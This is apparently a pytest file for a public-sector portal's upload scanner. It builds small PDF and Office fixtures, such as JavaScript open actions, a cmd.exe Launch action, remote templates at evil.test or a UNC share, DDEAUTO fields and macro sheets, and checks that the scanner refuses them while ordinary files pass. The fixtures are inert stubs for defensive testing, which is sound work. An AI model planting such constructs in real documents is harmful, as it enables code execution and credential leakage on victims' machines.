"""Files that would act when a public servant opens them are refused; ordinary ones of every producer are not."""

from __future__ import annotations

import pytest
from pikepdf import Array, Dictionary, Name, String

from core.uploads import UploadRefused, inspect_upload
from tests.core.conftest import DOCX_TYPES, docx, odt, pdf_with, zipped
from tests.core.test_uploads import refused, upload

JS = {"/S": Name.JavaScript, "/JS": String("app.alert(1)")}
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def accepted(name: str, content: bytes) -> bool:
    return bool(inspect_upload(upload(name, content)))


def script_at_opening(pdf):
    pdf.Root.OpenAction = Dictionary(JS)


def script_by_name(pdf):
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), Dictionary(JS)])))


def script_in_a_field(pdf):
    # Written inside the annotation, two levels down, and as the second of a chain.
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]))
    link.A = Dictionary(S=Name.URI, URI=String("https://example.test/"), Next=Dictionary(JS))
    pdf.pages[0].Annots = pdf.make_indirect(Array([link]))


def script_with_an_escaped_name(pdf):
    pdf.Root.AA = Dictionary({"/WC": Dictionary({"/S": Name("/Java" + "Script")})})


def launch(pdf):
    pdf.Root.OpenAction = Dictionary(S=Name.Launch, F=String("cmd.exe"))


def attached(pdf):
    pdf.attachments["secret.exe"] = b"MZ"


def dynamic_form(pdf):
    packet = pdf.make_stream(b"<xdp><field><event><script>1</script></event></field></xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=Array([String("template"), packet]))


@pytest.mark.parametrize(
    ("change", "word"),
    [
        (script_at_opening, "JavaScript"),
        (script_by_name, "JavaScript"),
        (script_in_a_field, "JavaScript"),
        (script_with_an_escaped_name, "JavaScript"),
        (dynamic_form, "JavaScript"),
        (launch, "開啟其他程式"),
        (attached, "夾帶"),
    ],
)
def test_a_pdf_that_acts_is_refused_with_what_to_do(change, word):
    message = refused("a.pdf", pdf_with(change))
    assert word in message
    assert "另存為 PDF" in message


def opens_on_a_page(pdf):
    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])
    pdf.docinfo["/Title"] = "How to write /JavaScript and /Launch"


def link(pdf):
    note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]))
    note.A = Dictionary(S=Name.URI, URI=String("https://example.test/"))
    pdf.pages[0].Annots = Array([note])


def form_without_scripts(pdf):
    field = pdf.make_indirect(
        Dictionary(FT=Name.Tx, T=String("name"), Subtype=Name.Widget, Rect=Array([0, 0, 9, 9]))
    )
    pdf.pages[0].Annots = Array([field])
    packet = pdf.make_stream(b"<xdp><field name='a'/></xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=Array([String("template"), packet]))


def signature(pdf):
    value = pdf.make_indirect(
        Dictionary(
            Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), SubFilter=Name("/adbe.pkcs7.detached"),
            ByteRange=Array([0, 10, 20, 10]), Contents=String("0" * 64),
            Reference=Array([Dictionary(Type=Name.SigRef, TransformMethod=Name.DocMDP)]),
        )
    )  # fmt: skip
    field = pdf.make_indirect(
        Dictionary(FT=Name.Sig, T=String("s"), V=value, Subtype=Name.Widget, Rect=Array([0, 0, 0, 0]))
    )
    pdf.pages[0].Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), SigFlags=3)


@pytest.mark.parametrize("change", [opens_on_a_page, link, form_without_scripts, signature])
def test_an_ordinary_pdf_is_accepted(change):
    assert accepted("a.pdf", pdf_with(change))


def test_a_pdf_that_the_portal_typesets_is_accepted():
    from documents import typesetting

    page = typesetting.html_to_pdf(
        '<h1 id="a">計畫</h1><a href="#a">回頂端</a><a href="https://example.test/">網站</a>'
    )
    assert accepted("plan.pdf", page)


# ---- office files -------------------------------------------------------------------------------


def relations(kind: str, target: str, mode: str = "External") -> bytes:
    return (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        f'Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    ).encode()


XLSX_TYPES = DOCX_TYPES.replace(b"/word/document.xml", b"/xl/workbook.xml").replace(
    b"wordprocessingml.document", b"spreadsheetml.sheet"
)


def xlsx(extra: dict[str, bytes]) -> bytes:
    return zipped({"[Content_Types].xml": XLSX_TYPES, "xl/workbook.xml": b"<workbook/>", **extra})


PACKAGER = b"\xd0\xcf\x11\xe0" + "\x01Ole10Native".encode("utf-16-le")


@pytest.mark.parametrize(
    ("name", "content", "word"),
    [
        (
            "a.docx",
            docx(
                **{"word/_rels/settings.xml.rels": relations("attachedTemplate", "http://evil.test/a.dotm")}
            ),
            "外部",
        ),
        (
            "a.docx",
            docx(
                **{"word/_rels/settings.xml.rels": relations("attachedTemplate", "\\\\evil\\share\\a.dotm")}
            ),
            "外部",
        ),
        (
            "a.docx",
            docx(**{"word/_rels/document.xml.rels": relations("oleObject", "mhtml:http://evil.test/a")}),
            "外部",
        ),
        ("a.docx", docx(**{"word/activeX/activeX1.xml": b"<a/>"}), "ActiveX"),
        ("a.docx", docx(**{"word/embeddings/oleObject1.bin": PACKAGER}), "內嵌的程式"),
        (
            "a.docx",
            docx(
                **{"word/document.xml": b'<w:instrText xml:space="preserve"> DDEAUTO c:\\\\a</w:instrText>'}
            ),
            "DDE",
        ),
        ("a.xlsx", xlsx({"xl/externalLinks/externalLink1.xml": b"<a/>"}), "中斷連結"),
        ("a.xlsx", xlsx({"xl/macrosheets/sheet1.xml": b"<a/>"}), "巨集"),
        ("a.odt", odt(**{"content.xml": b'<a xlink:href="vnd.sun.star.script:x"/>'}), "巨集"),
        ("a.odt", odt(**{"content.xml": b'<text:section-source xlink:href="http://evil.test/"/>'}), "連結"),
    ],
)
def test_an_office_file_that_acts_is_refused(name, content, word):
    assert word in refused(name, content)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.docx", docx(**{"word/_rels/document.xml.rels": relations("hyperlink", "https://example.test/")})),
        ("a.docx", docx(**{"word/_rels/document.xml.rels": relations("image", "media/a.png", "Internal")})),
        (
            "a.docx",
            docx(
                **{
                    "word/_rels/settings.xml.rels": relations(
                        "attachedTemplate", "file:///C:\\Users\\me\\Templates\\company.dotx"
                    )
                }
            ),
        ),
        (
            "a.docx",
            docx(**{"word/embeddings/Microsoft_Excel_Sheet1.xlsx": b"PK", "word/embeddings/e.bin": b"Eq"}),
        ),
        (
            "a.xlsx",
            xlsx({"xl/worksheets/_rels/sheet1.xml.rels": relations("hyperlink", "mailto:a@example.test")}),
        ),
    ],
)
def test_an_ordinary_office_file_is_accepted(name, content):
    assert accepted(name, content)


def test_relations_that_are_no_xml_are_a_broken_file():
    with pytest.raises(UploadRefused, match="損壞"):
        inspect_upload(upload("a.docx", docx(**{"word/_rels/document.xml.rels": b"\0not xml"})))


def test_a_large_pdf_is_looked_through_quickly():
    import time

    def many(pdf):
        pdf.Root.Lots = Array(
            [pdf.make_indirect(Dictionary(W=Array(list(range(40))))) for _ in range(20_000)]
        )

    content = pdf_with(many)
    start = time.process_time()
    assert accepted("a.pdf", content)
    assert time.process_time() - start < 10
